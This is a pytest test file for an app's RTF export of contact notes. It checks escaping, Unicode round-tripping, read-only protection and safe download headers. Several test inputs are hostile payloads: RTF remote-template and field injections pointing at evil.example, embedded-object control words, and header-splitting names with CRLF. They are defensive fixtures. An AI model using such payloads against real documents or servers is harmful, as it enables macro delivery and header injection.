"""The note as an RTF document (SPEC section 6; SECURITY.md 31, 32): `\\`, `{`, `}` escaped,
every character outside printable ASCII as `\\uN?` (signed 16-bit, surrogate pairs beyond the
BMP), line breaks as `\\par`, `\\uc1` kept, so that no note can smuggle in a control word; the
text comes back exactly through the `striprtf` package; the download is an attachment with an
RFC 6266 file name and cannot split a header."""
import os
import random
import re
import shutil
import subprocess
from datetime import UTC
from urllib.parse import quote

import pytest
from flask_babel import format_datetime
from striprtf.striprtf import rtf_to_text

from kontor import contacts, notes, rtf
from models import Contact

# the control words kontor/rtf.py writes itself; nothing a note says may add another
WRITER_WORDS = {"rtf", "ansi", "ansicpg", "deff", "uc", "fonttbl", "f", "fswiss", "info",
                "title", "readprot", "enforceprot", "protlevel", "viewkind", "pard", "fs", "b",
                "i", "par", "tab", "u"}
TOKENS = re.compile(r"\\([a-zA-Z]+)(-?\d+)?|\\([^a-zA-Z])|([{}])")


def control_words(document):
    """Control words, control symbols and group braces of an RTF text, left to right (an
    escaped backslash is a control symbol, so the letters after it are plain text)."""
    words, symbols, braces = [], [], []
    for match in TOKENS.finditer(document):
        word, number, symbol, brace = match.groups()
        if word:
            words.append((word, int(number) if number else None))
        elif symbol:
            symbols.append(symbol)
        else:
            braces.append(brace)
    return words, symbols, braces


def unescaped(word, document):
    """`\\word` preceded by an odd number of backslashes: a real control word."""
    return re.search(r"(?<!\\)(?:\\\\)*\\" + word, document)


def round_trip(text, title="Title", stamp="Stamp"):
    document = rtf.document(title, [(stamp, text)]).decode("ascii")
    plain = rtf_to_text(document)
    # striprtf returns a character beyond the BMP as the two surrogate halves that RTF writes
    # for it (\uN? twice); joining them as UTF-16 gives the character back.
    plain = plain.encode("utf-16", "surrogatepass").decode("utf-16")
    head = f"{title}\n\n{stamp}\n"
    assert plain.startswith(head) and plain.endswith("\n"), repr(plain)
    return plain[len(head):-1]


# --- escaping -------------------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "\\", "{", "}", "}{\\object", "{\\*\\template http://evil.example/t.dotm}",
    "\\field{\\*\\fldinst HYPERLINK \"http://evil.example\"}", "😀", "é5", "Søren Ærø",
    "first line\nsecond line", "a\n\nb", "\\par not a break", "\\u233?", "tab\there",
    "  spaced  out  ", "100% ? yes", "가나다 € ÿ", "\\'e9", "end with backslash \\",
    "🇳🇴 flag and 👍🏽 thumb", "mixed \\{é}\n😀\\",
])
def test_text_round_trips_exactly_through_striprtf(text):
    assert round_trip(text) == text


def test_random_texts_round_trip():
    pool = ("abcXYZ059 ?;:-_'\"\\{}\n\t" "éøåÆÖüß€" "가中ж" "😀🎉𝄞")
    chance = random.Random(32)
    for _ in range(300):
        text = "".join(chance.choice(pool) for _ in range(chance.randint(1, 40)))
        assert round_trip(text) == text


def test_title_and_stamps_round_trip_too():
    document = rtf.document("Müller {GmbH} \\ 😀", [("14/03/2025 · Zoë", "x")], "Note, 1")
    assert rtf_to_text(document.decode("ascii")).encode("utf-16", "surrogatepass") \
        .decode("utf-16") == "Müller {GmbH} \\ 😀\nNote, 1\n\n14/03/2025 · Zoë\nx\n"


def test_many_entries_escape_as_each_would_alone():
    """The document escapes all stamps and texts in one pass; each comes out as escaping it
    alone gives, and a NUL typed into a note cannot shift one entry into the next."""
    entries = [("1 · Anna", "a\0b {x}\r\n"), ("2 · Zoë", "\0"), ("3 · Piet", "😀\\"),
               ("4 · \0Ola", "\r")]
    document = rtf.document("T", entries).decode("ascii")
    expected = "".join(f"\\par\n{{\\b {rtf.escape(stamp)}}}\\par\n{rtf.escape(text)}\\par\n"
                       for stamp, text in entries)
    assert expected in document
    assert rtf.escape("a\0b") == "ab"
    plain = rtf_to_text(document).encode("utf-16", "surrogatepass").decode("utf-16")
    assert plain == "T\n\n1 · Anna\nab {x}\n\n\n2 · Zoë\n\n\n3 · Piet\n😀\\\n\n4 · Ola\n\n\n"


@pytest.mark.parametrize("word", ["template", "field", "object", "fldinst", "pict", "bin"])
def test_a_note_cannot_smuggle_in_a_control_word(word):
    text = ("{\\*\\template http://evil.example/t.dotm}\\field{\\*\\fldinst HYPERLINK "
            "\"http://evil.example\"}{\\object\\objdata 0102}{\\pict\\bin 4 abcd}")
    document = rtf.document(text, [(text, text)], text).decode("ascii")
    assert word in document                        # the text is there …
    assert not unescaped(word, document)           # … but only as text
    words, symbols, braces = control_words(document)
    assert {w for w, _ in words} <= WRITER_WORDS
    assert set(symbols) <= {"\\", "{", "}"}          # escaped characters only; no \* destination
    assert braces.count("{") == braces.count("}")


def test_the_check_for_control_words_can_fail():
    """The checks above find a control word when one is really there."""
    assert unescaped("template", "{\\rtf1{\\*\\template http://evil}}")
    assert unescaped("template", "\\\\\\template")
    assert not unescaped("template", "\\\\template")
    words, _, _ = control_words("{\\rtf1 \\\\field \\field}")
    assert [w for w, _ in words] == ["rtf", "field"]


def test_everything_outside_printable_ascii_is_a_signed_16_bit_unicode_escape():
    assert rtf.escape("é") == "\\u233?"
    assert rtf.escape("€") == "\\u8364?"
    assert rtf.escape("가") == "\\u-21504?"              # 0xAC00 as signed 16-bit
    assert rtf.escape("\uffff") == "\\u-1?"
    assert rtf.escape("😀") == "\\u-10179?\\u-8704?"      # U+1F600: D83D DE00
    assert rtf.escape("\\{}") == "\\\\\\{\\}"
    assert rtf.escape("a\r\nb\rc\nd") == "a\\par\nb\\par\nc\\par\nd"
    assert rtf.escape("a\x00b\x07c\x1bd") == "abcd"       # other control characters dropped
    document = rtf.document("😀 가", [("stamp", "".join(chr(c) for c in range(0, 0x3000, 7)))])
    assert all(32 <= byte <= 126 or byte == 10 for byte in document)
    numbers = [n for w, n in control_words(document.decode("ascii"))[0] if w == "u"]
    assert numbers and all(-32768 <= n <= 32767 for n in numbers)


def test_libreoffice_opens_the_note_with_every_character_as_written(tmp_path):
    """The real reader: LibreOffice converts the RTF to plain text, which must be the title,
    the stamps and the texts exactly as written (SECURITY 32's texts among them)."""
    soffice = shutil.which("soffice")
    if soffice is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice (soffice) is missing: `make test` installs it")
        pytest.skip("LibreOffice (soffice) is not installed; `make test` installs it")
    texts = ["\\", "{", "}", "}{\\object", "😀", "é5", "first line\nsecond line",
             "{\\*\\template http://evil.example/t.dotm}", "Søren Ærø € 가 \t tab"]
    entries = [(f"24-11-2026 10:0{n} · Zoë", text) for n, text in enumerate(texts)]
    source = tmp_path / "note.rtf"
    source.write_bytes(rtf.document("Søren Ærø AS", entries, "Note, customer number 10001"))
    subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
                    "--headless", "--convert-to", "txt:Text (encoded):UTF8",
                    "--outdir", str(tmp_path), str(source)],
                   check=True, capture_output=True, timeout=180)
    text = (tmp_path / "note.txt").read_text(encoding="utf-8-sig")
    expected = "Søren Ærø AS\nNote, customer number 10001\n" + "".join(
        f"\n{stamp}\n{body}\n" for stamp, body in entries)
    assert text.replace("\r\n", "\n") == expected


def test_the_document_asks_to_be_read_only():
    words = control_words(rtf.document("T", [("s", "x")]).decode())[0]
    assert ("readprot", None) in words
    assert ("enforceprot", 1) in words and ("protlevel", 3) in words     # 3: read only


def test_the_document_keeps_uc1_and_names_its_title():
    document = rtf.document("Søren Ærø AS", [("s1", "one"), ("s2", "two")], "Note").decode()
    assert document.startswith("{\\rtf1\\ansi")
    assert "\\uc1" in document
    assert "{\\info{\\title S\\u248?ren \\u198?r\\u248? AS}}" in document
    assert rtf_to_text(document) == "Søren Ærø AS\nNote\n\ns1\none\n\ns2\ntwo\n"


# --- the download ---------------------------------------------------------------------------

NOTE_TEXTS = ["Called about the boiler.\nWill call back Monday.",
              "}{\\object {\\*\\template http://evil.example} \\field é5 😀"]


@pytest.fixture
def soren(app):
    return contacts.create({"name": "Søren Ærø AS", "city": "Ålesund"})


def stamp(app, entry):
    with app.test_request_context():
        when = format_datetime(entry.created_at.replace(tzinfo=UTC), "short")
    return f"{when} · {entry.author_name or 'unknown'}"


def plain(response):
    return rtf_to_text(response.get_data().decode("ascii")) \
        .encode("utf-16", "surrogatepass").decode("utf-16")   # surrogate halves rejoined


def assert_is_a_safe_download(response, filename):
    assert response.status_code == 200
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; filename=\"")
    assert f"filename*=UTF-8''{quote(filename)}" in disposition
    assert disposition.isascii()
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]


def test_the_whole_note_downloads_as_rtf(app, admin_client, soren):
    for text in NOTE_TEXTS:
        assert admin_client.fill(f"/contacts/{soren.id}/notes",
                                 {"note-text": text}).status_code == 302
    for n in range(1, 56):             # more than the page shows: the file has them all
        notes.add_entry(soren, f"entry-{n:03}")
    response = admin_client.get(f"/contacts/{soren.id}/notes.rtf")
    assert_is_a_safe_download(response, "Søren Ærø AS.rtf")
    assert response.mimetype == "application/rtf"
    assert response.get_data().startswith(b"{\\rtf1")
    document = response.get_data().decode("ascii")
    assert "{\\info{\\title S\\u248?ren \\u198?r\\u248? AS}}" in document
    assert not unescaped("template", document) and not unescaped("field", document)
    text = plain(response)
    assert text.startswith("Søren Ærø AS\nNote, customer number 10001\n")
    for entry in notes.entries(soren):
        assert f"\n{stamp(app, entry)}\n{entry.text}\n" in text
    assert text.count("entry-") == 55
    assert text.index(NOTE_TEXTS[0]) < text.index(NOTE_TEXTS[1]) < text.index("entry-001")


def test_a_contact_persons_note_downloads_on_its_own(app, admin_client, soren):
    person = contacts.save_person(soren, None, {"name": "Zoë Ødegård", "active": True})
    notes.add_entry(soren, "Company note")
    admin_client.fill(f"/contacts/{soren.id}/persons/{person.id}/notes",
                      {"note-text": "Person note {\\b}"})
    response = admin_client.get(f"/contacts/{soren.id}/persons/{person.id}/notes.rtf")
    assert_is_a_safe_download(response, "Zoë Ødegård.rtf")
    text = plain(response)
    assert text.startswith("Zoë Ødegård\nNote, contact person at Søren Ærø AS\n")
    assert "Person note {\\b}" in text and "Company note" not in text
    assert "Anna Jansen" in text


def test_an_empty_note_still_downloads(admin_client, soren):
    response = admin_client.get(f"/contacts/{soren.id}/notes.rtf")
    assert response.status_code == 200
    assert plain(response) == "Søren Ærø AS\nNote, customer number 10001\n"


@pytest.mark.parametrize("name", ["Evil\r\nX-Injected: yes", "Evil\nX-Injected: yes",
                                  "Quote\" and back\\slash"])
def test_a_name_cannot_split_the_download_header(admin_client, name):
    contact = contacts.create({"name": name})
    assert Contact.get_by_id(contact.id).name == name
    for url in (f"/contacts/{contact.id}/notes.rtf", f"/contacts/{contact.id}/vcard"):
        response = admin_client.get(url)
        assert response.status_code == 200
        assert "X-Injected" not in response.headers
        disposition = response.headers["Content-Disposition"]
        assert "\r" not in disposition and "\n" not in disposition
        assert re.fullmatch(r'attachment; filename="[^"\\]*"; filename\*=UTF-8\'\'[^\s"]*',
                            disposition), disposition
